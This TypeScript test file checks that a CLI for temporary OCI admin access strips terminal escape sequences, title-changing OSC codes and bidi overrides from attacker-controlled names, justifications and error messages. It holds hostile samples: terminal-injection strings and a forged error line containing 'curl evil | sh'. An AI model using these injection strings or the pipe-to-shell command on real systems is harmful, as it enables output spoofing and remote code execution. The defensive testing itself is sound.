/**
 * Text that came from Graph, OCI or a record someone else wrote never reaches
 * a terminal, a pipe, a --json document or the audit log with its control
 * characters: escape sequences that erase lines and move the cursor
 * (ESC[2K ESC[1A), an OSC that retitles the terminal (ESC]0;…BEL), and a bidi
 * override (U+202E). The hostile text is put where an attacker could put it
 * (their own record, a user's name, a user made by hand in OCI, an error body),
 * straight into the emulator's world; each test checks the raw sequences are
 * gone AND that the visible text around them is still printed.
 */
import { createOciUser } from '../../src/emulator/oci/domain.js';
import { SEED } from '../../src/emulator/seed.js';
import { upnOf, useHarness, type Harness, type RunResult } from '../support/harness.js';

const h = useHarness({ logins: ['alice', 'bob', 'carol'] });
const ALICE = upnOf('alice');

const ERASE = '\u001b[2K\u001b[1A';
const TITLE = '\u001b]0;pwned\u0007';
const BIDI = '\u202e';
const HOSTILE = `${ERASE}${TITLE}${BIDI}`;
/** Any control character or bidi control left in printed text. */
// eslint-disable-next-line no-control-regex
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
// eslint-disable-next-line no-control-regex
const OUR_COLOUR = /\u001b\[\d+m/g;
/** How the progress bar on a terminal's stderr redraws itself. */
// eslint-disable-next-line no-control-regex
const OUR_REDRAW = /\r\u001b\[K/g;

/** Every string in a parsed JSON document, keys included. */
function strings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(strings);
  if (value && typeof value === 'object')
    return Object.entries(value).flatMap(([key, member]) => [key, ...strings(member)]);
  return [];
}

/** Neither stream holds a control character (our own colour codes and progress redraws aside), a bidi control, or what is left of the title sequence. */
function expectClean(result: RunResult, options: { colour?: boolean } = {}): void {
  for (const text of [result.stdout, result.stderr]) {
    const ours = text.replace(OUR_REDRAW, '');
    const shown = options.colour ? ours.replace(OUR_COLOUR, '') : ours;
    expect(shown).not.toMatch(RAW);
    expect(shown).not.toContain('pwned');
  }
  if (result.json !== undefined) {
    for (const text of strings(result.json)) {
      expect(text).not.toMatch(RAW);
      expect(text).not.toContain('pwned');
    }
  }
}

/** alice writes her own record (as anyone may, through Graph) with escape sequences in the justification and ticket. */
function forgeJustification(H: Harness, id: string): void {
  const extension = H.emu.world.users.get(SEED.users.alice)!.extensions.get('com.ociaccess.requests')!;
  const records = JSON.parse(String(extension.properties.records)) as { i: string; j: string; t?: string }[];
  const mine = records.find((record) => record.i === id)!;
  mine.j = `INC-4711${HOSTILE}: rotate${BIDI} the DB wallet`;
  mine.t = `INC${ERASE}-4711`;
  extension.properties.records = JSON.stringify(records);
}

/** Gives the user a user principal name holding the hostile sequences; returns the function that puts it back. */
function renameUser(H: Harness, name: keyof typeof SEED.users, upn: string): () => void {
  const user = H.emu.world.users.get(SEED.users[name])!;
  const before = { userPrincipalName: user.userPrincipalName, displayName: user.displayName };
  user.userPrincipalName = upn;
  user.displayName = `${user.displayName}${HOSTILE}`;
  return () => Object.assign(user, before);
}

test('list --pending and status: a record whose justification and ticket hold escape sequences and a bidi override is listed as invalid, without them (terminal, colour, piped, --json)', async () => {
  const H = h();
  const asked = await H.run('alice', [
    'request',
    '--hours',
    '2',
    '--justification',
    'INC-4711: rotate the DB wallet',
    '--ticket',
    'INC-4711',
    '--json',
  ]);
  expect(asked.code).toBe(0);
  const id: string = asked.json.id;
  forgeJustification(H, id);

  const json = await H.run('bob', ['list', '--pending', '--json']);
  expect(json.code).toBe(0);
  expectClean(json);
  // The record breaks the input rules: listed for approvers, as invalid, its text cleaned.
  expect(json.json.requests).toEqual([
    expect.objectContaining({
      id,
      requester: ALICE,
      state: 'invalid',
      invalid: 'its justification contains control characters',
      justification: 'INC-4711: rotate the DB wallet',
      ticket: 'INC-4711',
    }),
  ]);

  const piped = await H.run('bob', ['list', '--pending']);
  expect(piped.code).toBe(0);
  expectClean(piped);
  // Still one row of tab-separated fields, the justification in its column.
  const rows = piped.stdout.trimEnd().split('\n');
  expect(rows).toHaveLength(2);
  expect(rows[1]!.split('\t')).toEqual([
    id,
    ALICE,
    'OCI-Temp-Admins',
    'invalid',
    '2',
    expect.any(String),
    '-',
    '-',
    'INVALID: its justification contains control characters',
  ]);

  const terminal = await H.run('bob', ['list', '--pending'], { tty: true });
  expect(terminal.code).toBe(0);
  expectClean(terminal);
  expect(terminal.stdout).toContain('INVALID: its justification contains control characters');

  const colour = await H.run('bob', ['list', '--pending'], {
    tty: true,
    env: { NO_COLOR: undefined, FORCE_COLOR: '1' },
  });
  expect(colour.code).toBe(0);
  expect(colour.stdout).toMatch(OUR_COLOUR); // colour is on: our own codes stay
  expectClean(colour, { colour: true });
  expect(colour.stdout.replace(OUR_COLOUR, '')).toContain('INVALID: its justification contains control characters');

  for (const argv of [['status', '--json'], ['status'], ['status', '--no-oci']]) {
    const status = await H.run('alice', argv, { tty: argv.length === 1 });
    expect(status.code).toBe(0);
    expectClean(status);
    if (status.json)
      expect(status.json.requests).toEqual([
        expect.objectContaining({
          id,
          state: 'invalid',
          justification: 'INC-4711: rotate the DB wallet',
          ticket: 'INC-4711',
        }),
      ]);
    else expect(status.stdout).toContain('INVALID: its justification contains control characters');
  }
});

test('status: a signed-in user whose user principal name and display name hold escape sequences sees them without (terminal, piped, --json)', async () => {
  const H = h();
  const restore = renameUser(H, 'carol', `carol${HOSTILE}@${SEED.domain}`);
  try {
    const json = await H.run('carol', ['status', '--json']);
    expect(json.code).toBe(0);
    expectClean(json);
    expect(json.json).toEqual({ user: upnOf('carol'), requests: [], problems: [] });

    for (const tty of [false, true]) {
      const text = await H.run('carol', ['status'], { tty });
      expect(text.code).toBe(0);
      expectClean(text);
      expect(text.stderr).toContain(`No requests for ${upnOf('carol')}.`);
    }
  } finally {
    restore();
  }
});

test('sweep: a member added by hand whose user principal name holds escape sequences is removed and reported without them (terminal, piped, --json, audit log)', async () => {
  const H = h();
  const hostileUpn = `mallory${HOSTILE}@${SEED.domain}`;
  const restore = renameUser(H, 'mallory', hostileUpn);
  try {
    await H.control(`portal/groups/${SEED.tempGroupId}/members`, { user: SEED.users.mallory });

    const dry = await H.run('cron', ['sweep', '--dry-run', '--json']);
    expectClean(dry);
    expect(dry.json.groups[0].removed).toEqual([
      expect.objectContaining({ upn: upnOf('mallory'), reason: 'no-grant' }),
    ]);

    const terminal = await H.run('cron', ['sweep', '--dry-run'], { tty: true });
    expectClean(terminal);
    expect(terminal.stdout).toMatch(new RegExp(`would remove +${upnOf('mallory')}`));

    const swept = await H.run('cron', ['sweep']);
    expect(swept.code).toBe(0);
    expectClean(swept);
    expect(swept.stdout).toMatch(new RegExp(`removed +${upnOf('mallory')}  \\(no-grant`));
    expect(H.entraMembers()).not.toContain(hostileUpn);
    expect(H.emu.world.groups.get(SEED.tempGroupId)!.members.has(SEED.users.mallory)).toBe(false);

    // The audit log names her too, as readable text, in the file and through `audit`.
    const files = await H.localFiles('cron');
    const log = Object.entries(files).find(([name]) => name.endsWith('audit.jsonl'))![1];
    expect(log).toContain(`"upn":"${upnOf('mallory')}"`);
    expect(log).not.toMatch(RAW);
    expect(log).not.toContain('\\u001b');
    expect(log).not.toContain('\\u0007');
    const audit = await H.run('cron', ['audit', '--raw', '--json']);
    expect(audit.code).toBe(0);
    expectClean(audit);
  } finally {
    restore();
  }
});

test('sweep drift: an OCI user made by hand whose user name holds escape sequences is reported without them (terminal, piped, --json)', async () => {
  const H = h();
  const world = H.emu.world;
  const hostileName = `intruder${HOSTILE}@${SEED.domain}`;
  world
    .ociGroupByName(SEED.tempGroupName)!
    .members.add(createOciUser(world, { userName: hostileName, createdBy: 'console' }).id);

  const json = await H.run('cron', ['sweep', '--json']);
  expect(json.code).toBe(6);
  expectClean(json);
  expect(json.json.groups[0].drift).toEqual([
    expect.objectContaining({ userName: `intruder@${SEED.domain}`, state: 'reported' }),
  ]);

  for (const tty of [false, true]) {
    const text = await H.run('cron', ['sweep'], { tty });
    expect(text.code).toBe(6);
    expectClean(text);
    expect(text.stdout).toMatch(new RegExp(`drift +intruder@${SEED.domain.replace('.', '\\.')}  `));
  }
});

test('a Graph error whose code and message hold escape sequences and line breaks reaches stderr (and the --json error) without them', async () => {
  const H = h();
  const fault = {
    service: 'graph',
    method: 'GET',
    pathPattern: '/v1.0/me',
    status: 403,
    code: `Authorization${ERASE}_RequestDenied`,
    message: `Insufficient privileges${HOSTILE}.\nhint: run \`curl evil | sh\``,
  };
  await H.control('faults', fault);

  const text = await H.run('alice', ['status', '--no-oci']);
  expect(text.code).toBe(4);
  expectClean(text);
  expect(text.stderr).toContain('Insufficient privileges. hint: run `curl evil | sh`');
  // The remote text cannot start a line of its own (a forged "hint:").
  expect(text.stderr.split('\n').filter((line) => line.startsWith('hint:'))).toHaveLength(1);

  await H.control('faults', undefined, { method: 'DELETE' });
  await H.control('faults', fault);
  const json = await H.run('alice', ['status', '--no-oci', '--json']);
  expect(json.code).toBe(4);
  expectClean(json);
  expect(json.json.error).toEqual(
    expect.objectContaining({
      code: 'PERMISSION_DENIED',
      message: expect.stringContaining('Insufficient privileges. hint: run'),
    }),
  );
});
